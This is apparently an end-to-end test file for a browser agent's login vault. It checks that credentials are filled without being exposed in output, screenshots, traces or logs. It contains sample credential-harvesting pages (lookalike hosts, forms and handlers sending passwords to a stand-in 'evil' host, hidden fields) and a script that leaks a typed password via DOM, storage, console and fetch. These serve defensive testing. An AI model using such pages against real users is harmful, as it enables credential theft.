"""Logins that an agent uses and never sees, and pages that try to get hold of them."""

import base64
import json
import zipfile
from pathlib import Path

import pytest

from support.person import person
from support.programs import a_program
from support.skills import write_skill

pytestmark = pytest.mark.e2e

# In no other test: the shared daemon never shows them again.
USER, PASSWORD, CODE = "ada.l", "battery-Staple-93", "60718293"
SEED = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"
FIELDS = "<input name=user><input type=password name=pw>"
FORM = f"<form method=post action=/sent>{FIELDS}<button>Log in</button></form>"


def host(site, name: str) -> str:
    return f"http://{name}.localhost:{site.port}"


@pytest.fixture
def shop(browser, site):
    """A login for a site, `shop`, and the address of that site."""
    home = Path(browser.env["HOME"]) / ".gstack" / "logins"
    origin = host(site, "shop")
    browser.ok("login", "add", "shop", origin, "--user", USER, stdin=f"{PASSWORD}\n")
    yield origin
    for path in (*home.glob("*.login"), *home.glob("*.state")):
        path.unlink()


def held(browser) -> str:
    """What all fields of the page and of its frames hold, as the owner sees it."""
    script = """const inside = (page) => [...page.querySelectorAll('input')].map((it) => it.value)
      .concat([...page.querySelectorAll('iframe')].flatMap((it) =>
        it.contentDocument ? inside(it.contentDocument) : [])); inside(document).join('')"""
    return browser.post("js", script, "--raw", "--reveal")


def test_a_login_is_typed_and_sent_and_never_seen(browser, site, shop):
    site.page("/logins/in", FORM)
    sent = []

    def receive(request):
        sent.append(request.rfile.read(int(request.headers["content-length"])).decode())
        body = f"<h1>Hello</h1><p>You sent {sent[-1]}".encode()
        request.send_response(200)
        request.send_header("content-length", str(len(body)))
        request.end_headers()
        request.wfile.write(body)

    site.answer("/sent", receive)
    browser.ok("goto", f"{shop}/logins/in")

    filled = browser.ok("login", "fill", "shop", "--submit", "--json")

    assert sent == [f"user={USER}&pw={PASSWORD}"]
    assert filled.json["filled"] == ["user", "password"]
    assert filled.json["submitted"] is True
    assert filled.json["navigated"] is True
    assert PASSWORD not in filled.out
    for words in (("text",), ("text", "--reveal"), ("text", "--reveal", "--json"), ("snapshot",)):
        assert PASSWORD not in browser.post(*words)
    listed = browser.ok("login", "--json").json["logins"]
    assert listed == [
        {"name": "shop", "origin": shop, "from": "vault", "has": ["user name", "password"]}
    ]


def test_a_password_that_cannot_be_masked_is_told(browser, site, tmp_path):
    origin = host(site, "weak")
    program = a_program(tmp_path / "vault", "echo abc")
    browser.ok("login", "link", "weak", origin, "command", "--", str(program))
    site.page("/weak", FORM)
    browser.post("goto", f"{origin}/weak")

    assert "[warning] this password is so short" in browser.post("login", "fill", "weak")
    browser.ok("login", "rm", "weak")


def test_the_steps_of_a_login_are_filled_one_after_the_other(browser, site, tmp_path):
    origin = host(site, "steps")
    program = a_program(tmp_path / "vault", f"printf '{PASSWORD}\\nuser: {USER}\\ntotp: {CODE}\\n'")
    browser.ok("login", "link", "steps", origin, "command", "--", str(program))
    boxes = "<input maxlength=1 inputmode=numeric>" * len(CODE)
    for path, page, typed in (
        ("/steps/user", "<label>E-mail <input type=email></label>", USER),
        ("/steps/password", "<form><input type=password></form>", PASSWORD),
        ("/steps/code", "<label>Verification code <input></label>", CODE),
        ("/steps/boxes", f"<form>{boxes}</form>", CODE),
        ("/steps/frame", "<iframe src=/steps/password></iframe>", PASSWORD),
        ("/steps/shadow", f"<div><template shadowrootmode=open>{FORM}</template></div>", ""),
    ):
        site.page(path, page)
        browser.post("goto", origin + path)
        assert "Filled in" in browser.post("login", "fill", "steps")
        # Masked even so: the reply is compared with what is masked in the same way.
        assert held(browser) == (typed if typed == USER else "****" if typed else "")
    browser.ok("login", "rm", "steps")


# How a page tries to get the login: host of the page, page, and what is said.
HARVESTS = {
    "host that looks alike": ("sh0p", FORM, "this page is http://sh0p.localhost"),
    "host below it": ("a.shop", FORM, "this page is http://a.shop.localhost"),
    "host that begins like it": ("shop.localhost.evil", FORM, "page is http://shop.localhost.evil"),
    "frame of another site": ("shop", "<iframe src='{evil}/form'></iframe>", "frame of http://evil"),
    "its page framed by another": ("evil", "<iframe src='{shop}/form'></iframe>", "this page is"),
    "sandboxed frame": ("shop", "<iframe sandbox src=/form></iframe>", "frame of null"),
    "frame without an address": ("shop", "<iframe srcdoc='{form}'></iframe>", "no address of its"),
    "form for another site": (
        "shop",
        f"<form method=post action='{{evil}}/x'>{FIELDS}</form>",
        "is sent to http://evil",
    ),
    "button for another site": (
        "shop",
        f"<form method=post>{FIELDS}<button formaction='{{evil}}/x'>Go</button></form>",
        "is sent to http://evil",
    ),
    "picture for another site": (
        "shop",
        f"<form method=post><input type=image formaction='{{evil}}/x'>{FIELDS}</form>",
        "is sent to http://evil",
    ),
    "base of another site": ("shop", "<base href='{evil}/'>{form}", "is sent to http://evil"),
    "action hidden by a field": (
        "shop",
        f"<form action='{{evil}}/x'>{FIELDS}<input name=action></form>",
        "is sent to http://evil",
    ),
    "form that turns to another site": (
        "shop",
        f"<form oninput=\"this.action='{{evil}}/x'\">{FIELDS}</form>",
        "is sent to http://evil",
    ),
    "field that nobody sees": (
        "shop",
        "<p>Hi<input type=password style='opacity:0'><input type=password"
        " style='position:absolute;left:-999px'><input type=password style='width:1px;height:1px'>"
        "<input type=password hidden>",
        "cannot be seen",
    ),
    "field that is fixed": ("shop", "<input type=password readonly>", "cannot be seen, or not"),
    "new password": ("shop", "<input type=password autocomplete=new-password>", "a new password"),
    "several passwords": ("shop", FIELDS + FIELDS, "several fields for a password"),
    "field for other words": ("shop", "<textarea></textarea><input name=q>", "has no field for"),
}  # fmt: skip


def test_no_page_gets_a_login_that_is_not_its_own(browser, site, shop):
    evil = host(site, "evil")
    site.page("/form", FORM)
    ended = {}
    for number, (how, (name, page, said)) in enumerate(HARVESTS.items()):
        written = page.replace("{evil}", evil).replace("{shop}", shop).replace("{form}", FORM)
        site.page(f"/harvest/{number}", written)
        browser.post("goto", f"{host(site, name)}/harvest/{number}")

        asked = {"command": "login", "args": ["fill", "shop", "--submit"]}
        reply = json.loads(browser.ask("POST", "/command", asked)[1])["error"]

        assert said in reply, how
        assert held(browser) in ("", USER), how
        ended[how] = reply
    late = FORM.replace(
        "<form", f"<form oninput=\"event.target.name == 'pw' && (action = '{evil}/x')\""
    )
    site.page("/harvest/late", late)
    browser.post("goto", f"{shop}/harvest/late")
    reply = json.loads(browser.ask("POST", "/command", asked)[1])["error"]
    assert f"is sent to {evil}" in reply
    assert "Typed before that: user name and password; nothing was sent" in reply
    assert f"{shop}/harvest/late" in browser.post("url")
    assert len(ended) == len(HARVESTS)
    assert all(
        "Nothing was typed" in it or "Typed before that: user name; nothing was sent" in it
        for it in ended.values()
    )


# A page of the right site that shows the password to everybody.
TELLTALE = f"""<title>Quiet</title>{FORM}<p id=said></p><div id=held></div><script>
document.querySelector('[name=pw]').addEventListener('input', (event) => {{
  const {{value}} = event.target;
  event.target.type = 'text';
  said.textContent = 'You typed ' + value; held.title = value; document.title = value;
  held.setAttribute('data-x', encodeURIComponent(value));
  localStorage.x = value; console.log('typed', value); console.error(btoa(value));
  history.replaceState(null, '', '?note=' + encodeURIComponent(value));
  fetch('/logins/told/' + encodeURIComponent(value), {{method: 'POST', body: value}});
}});</script>"""
READING = (
    "text", "html", "markdown", "snapshot", "snapshot -i", "accessibility", "forms", "attrs #held",
    "value [name=pw]", "attrs [name=pw]", "links", "data", "url", "tabs", "storage", "console",
    "network", "find typed", "js document.documentElement.outerHTML", "js localStorage.x",
    "ux-audit", "js document.querySelector('[name=pw]').value", "chain text | url",
    "tab-each url",
)  # fmt: skip


def test_a_page_that_shows_the_password_shows_it_to_nobody_here(browser, site, shop, tmp_path):
    site.page("/logins/telltale", TELLTALE)
    site.page(f"/logins/told/{PASSWORD}", "thanks")
    browser.ok("har", "record", "kept.har", "--with-secrets")
    browser.ok("goto", f"{shop}/logins/telltale")

    replies = [browser.ok("login", "fill", "shop", "--snapshot").out]
    browser.post("wait", "--networkidle")
    for line in READING:
        words = line.split(" ", 1) if line.startswith(("js ", "chain ")) else line.split(" ")
        replies += [browser.post(*words), browser.post(*words, "--reveal", "--json")]
    browser.ok("network", "--export", "bodies.jsonl", "--reveal")
    browser.ok("har", "stop")
    browser.ok("js", "document.documentElement.outerHTML", "--out", "page.html")
    browser.ok("archive", "page.mhtml")
    browser.ok("state", "save", "ignored")

    assert any("You typed ****" in reply for reply in replies)
    assert [reply for reply in replies if PASSWORD in reply] == []
    files = [path for path in browser.root.rglob("*") if path.is_file()]
    leaks = [path.name for path in files if PASSWORD.encode() in path.read_bytes()]
    assert leaks == ["ignored.json"]  # what a site stores itself is part of a saved state
    assert {"kept.har", "bodies.jsonl", "page.html", "browse-audit.jsonl"} <= {
        path.name for path in files
    }
    browser.ok("state", "rm", "ignored")


@pytest.mark.blank_tab
def test_bad_words_of_login_are_told_and_keep_nothing(browser, site):
    for words, stdin, said in (
        (("add", "../x", "https://a.example"), "pw", "is not a name for a login"),
        (("add", "x", "http://a.example"), "pw", "this address has no https"),
        (("add", "x", "a.example"), "pw", "is not the address of a site"),
        (("add", "x", "https://a.example"), "", "are expected on stdin"),
        (("add", "x", "https://a.example"), "pw\nnot a seed!\n", "is no seed of one-time codes"),
        (("add", "x", "https://a.example"), "a\nb\nc\n", "are expected on stdin"),
        (("add", "x", "https://a.example", "--password=pw-1234"), "pw", "Unknown flag: --password"),
        (("link", "x", "https://a.example", "keepass", "x"), None, "is not one of: op, bw"),
        (("link", "x", "https://a.example", "op", "--all"), None, "Unknown flag"),
        (("fill", "x"), None, "There is no login to fill in called 'x'"),
        (("rm", "x"), None, "There is no login called 'x'"),
        (("use",), None, "login"),
    ):
        ran = browser.browse("login", *words, stdin=stdin)
        assert ran.code != 0, words
        assert said in ran.err, words
        assert "pw-1234" not in ran.err.replace("--password", "")
    assert json.loads(browser.post("login", "list", "--json")) == {"logins": []}


def test_a_terminal_asks_for_the_password_without_echo(browser):
    answers = {"Password": PASSWORD, "Seed": SEED}

    ran, shown = person(
        browser,
        *("login", "add", "asked", "https://asked.example"),
        types=lambda asked: next(it for name, it in answers.items() if name in asked),
    )

    assert ran.code == 0, ran.err
    assert PASSWORD not in shown + ran.out
    (row,) = json.loads(browser.post("login", "list", "--json"))["logins"]
    assert row["has"] == ["password", "one-time codes"]
    browser.ok("login", "rm", "asked")


def test_a_field_is_filled_with_a_secret_that_no_word_holds(browser, site):
    page = "<input id=a oninput='said.textContent = this.value'><p id=said></p><input id=b>"
    browser.post("goto", site.page("/secret-env", page))

    ran = browser.ok("fill", "#a", "--secret-env", "PW", PW="fr0m-the-Env")
    browser.ok("fill", "#b", "--secret-stdin", stdin="fr0m-a-Pipe\n")

    assert "fr0m" not in ran.out + browser.post("text", "--reveal") + browser.post("forms")
    assert browser.post("js", "[a.value.length, b.value.length].join()", "--raw") == "12,11"
    steps = browser.ok("replay", "--list", "--json").out
    assert "fr0m" not in steps
    for words, stdin, said in (
        (("fill", "#a", "x", "--secret-env", "PW"), None, "give one value"),
        (("fill", "@e1=x", "--secret-env", "PW"), None, "one value"),
        (("fill", "#a", "--secret-stdin"), "", "no secret came with this call"),
        (("chain", "fill #a --secret-env PW"), None, "not inside chain"),
        (("fill", "#a", "--secret-env", "P-W"), None, "is not set here"),
    ):
        failed = browser.browse(*words, stdin=stdin, PW="fr0m-the-Env")
        assert (failed.code != 0, said in failed.err + failed.out) == (True, True), words


def test_a_skill_types_a_secret_that_it_does_not_get(browser, site, skills):
    url = site.page("/skill-secret", "<input id=pw>")
    head = '---\nhost: "*"\nargs:\n  - name: pw\n    required: true\n---\n'
    script = f"""
from _lib.browse_client import Browse, run
def main(browse: Browse, args: dict) -> dict:
    with browse.tab("{url}"):
        browse.fill("#pw", args["pw"])
        return {{"got": args["pw"], "typed": browse.command("value", "#pw")}}
run(main)
"""
    write_skill(skills, "types-secret", script, head=head, sdk=True)

    ran = browser.ok("skill", "run", "types-secret", "--secret-env", "pw=PW", PW="f0r-a-Skill")

    said = json.loads(ran.out)
    assert said["got"].startswith("browse-secret-")
    assert "****" in said["typed"]
    assert "f0r-a-Skill" not in ran.out
    wrong = browser.browse("skill", "run", "types-secret", "--secret-env", "PW", PW="x")
    assert "is not an argument, = and a variable" in wrong.err


def test_pictures_show_dots_where_a_page_shows_a_secret(browser, site):
    page = '<input id=a oninput=\'said.textContent = "<" + this.value + ">"\'><p id=said></p>'
    url = site.page("/pictures", page)

    def pictures(*words: str, **env: str) -> list[bytes]:
        browser.post("goto", url)
        browser.ok("fill", "#a", *words, **env)
        browser.post("js", "a.blur()")
        before = browser.post("js", "document.body.outerHTML", "--raw")
        browser.ok("screenshot", "shot.png")
        browser.ok("screenshot", "part.png", "--selector", "#said")
        assert browser.post("js", "document.body.outerHTML", "--raw") == before
        return [(browser.root / name).read_bytes() for name in ("shot.png", "part.png")]

    assert pictures("Zaaa-1111-x") != pictures("Ziii-7777-M")
    sealed = pictures("--secret-env=PW", PW="Waaa-1111-x")
    assert sealed == pictures("--secret-env=PW", PW="Wiii-7777-M")


# How a page shows a secret beside its text: with rules of its own, and in attributes.
SHOWN = """<style>
#kept * { -webkit-text-security: none !important }
#told::after { content: attr(data-v) }
</style><input id=a type=password><p id=kept></p><p id=told></p><p id=ruled></p>
<input id=hint><img id=img src=/none width=200 height=30><script>
a.oninput = () => {
  const {value} = a;
  kept.innerHTML = value.slice(0, 5) + '<b>' + value.slice(5) + '</b>';
  told.dataset.v = hint.placeholder = img.alt = value;
  document.styleSheets[0].insertRule(`#ruled::before { content: "${value}" }`);
};
</script>"""


def test_pictures_show_no_secret_that_stands_in_styles_and_attributes(browser, site):
    url = site.page("/shown", SHOWN)

    def picture(secret: str) -> bytes:
        browser.post("goto", url)
        browser.ok("fill", "#a", "--secret-env", "PW", PW=secret)
        browser.post("js", "a.blur()")
        browser.ok("screenshot", "shot.png")
        assert "visibility" not in browser.post("js", "hint.outerHTML + img.outerHTML")
        return (browser.root / "shot.png").read_bytes()

    assert picture("Vaaa-2222-x") == picture("Viii-8888-M")


def test_a_trace_and_a_field_that_turns_into_text_do_not_show_the_password(browser, site, shop):
    site.page("/logins/traced", TELLTALE)
    browser.ok("trace", "start")
    browser.post("goto", f"{shop}/logins/traced")

    browser.post("login", "fill", "shop")

    field = "const it = document.querySelector('[name=pw]'); it.type + getComputedStyle(it)"
    dots = browser.post("js", f"{field}.getPropertyValue('-webkit-text-security')", "--raw")
    assert dots == "textdisc"
    browser.ok("trace", "stop", "traced.zip")
    with zipfile.ZipFile(browser.root / "traced.zip") as trace:
        held = {name: trace.read(name) for name in trace.namelist()}
    assert any(b"FILL" in it or b"fill_login" in it for it in held.values())
    encoded = base64.b64encode(PASSWORD.encode()).rstrip(b"=")
    assert [name for name, it in held.items() if PASSWORD.encode() in it or encoded in it] == []
